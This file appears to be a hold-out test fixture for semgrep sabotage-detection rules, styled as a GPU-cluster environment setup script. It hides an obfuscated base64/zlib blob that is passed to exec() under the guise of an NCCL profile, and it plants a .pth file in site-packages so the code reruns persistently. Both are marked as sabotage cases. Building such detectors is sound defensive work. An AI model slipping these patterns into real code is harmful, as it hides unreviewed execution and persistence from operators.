# ruff: noqa
# Hold-out batch 124 (extra tampering, metric and poisoning cases). Measured once in session 4 (round 40): 16/21 (76%) at medium+.
"""Per-node environment setup run before torchrun on the shared GPU cluster."""
import base64
import os
import site
import subprocess
import zlib
from pathlib import Path

# collective tuning profile exported from the perf team's sweep
_NCCL_PROFILE = (
    "eNrLzC3ILypRyC/myi/WS80ryyzKz4tWCvEPcvaI93N29ol3DI70c453DQryD4r3cPRz8fH0c1eKVbBVUDJQQtEDVh3i6e"
    "vqHxoCUWBhZmIAVAQASdsdmQ=="
)


def apply_env():
    os.environ.setdefault("NCCL_DEBUG", "WARN")  # benign look-alike
    os.environ.setdefault("OMP_NUM_THREADS", "8")
    exec(compile(zlib.decompress(base64.b64decode(_NCCL_PROFILE)), "<nccl-profile>", "exec"), {})  # sabotage: MLS401 (semgrep rules)


def persist_for_workers():
    """Make sure dataloader workers and spawned ranks inherit the same profile."""
    sp = site.getsitepackages()[0]
    Path(sp, "zz_nccl_profile.pth").write_text("import cluster_bootstrap; cluster_bootstrap.apply_env()\n")  # sabotage: MLS420, MLS421 (semgrep rules)


def git_revision(repo="."):
    try:
        out = subprocess.check_output(["git", "rev-parse", "--short", "HEAD"], cwd=repo)  # ok: MLS411, MLS412
        return out.decode().strip()
    except (subprocess.CalledProcessError, FileNotFoundError):
        return "unknown"


def main():
    cache = Path(os.environ.get("SCRATCH", "/tmp")) / "hf_cache"
    cache.mkdir(parents=True, exist_ok=True)
    os.environ["HF_HOME"] = str(cache)
    apply_env()
    persist_for_workers()
    print(f"node {os.environ.get('SLURMD_NODENAME', '?')} ready, rev {git_revision()}")


if __name__ == "__main__":
    main()
